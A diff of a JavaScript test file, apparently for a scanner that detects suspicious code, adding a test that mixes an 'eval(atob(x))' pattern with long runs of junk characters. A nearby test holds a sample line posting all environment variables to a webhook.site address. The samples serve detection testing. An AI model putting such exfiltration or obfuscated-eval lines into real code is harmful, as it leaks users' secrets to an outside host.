@@ -212,6 +212,13 @@ test('code that nests too deep to be read is neither cleared nor taken as read',
   }
 });
 
+test('a text made of mistakes takes no longer than one with a few, and is searched by words', () => {
+  for (const mistake of ['@', '@\n', "'\n", '\u{1f44d}'])
+    expect(worst(`eval(atob(x)) fetch process.env\n${mistake.repeat(200_000)}`)).toContain(
+      'unparseable-code warn 1',
+    );
+});
+
 test('TypeScript, JSX and old scripts', () => {
   const body = 'fetch("https://webhook.site/x", { body: JSON.stringify(process.env) })';
   expect(worst(`const a: string = "x" as string; ${body}`, 'a.ts')).toHaveLength(1);
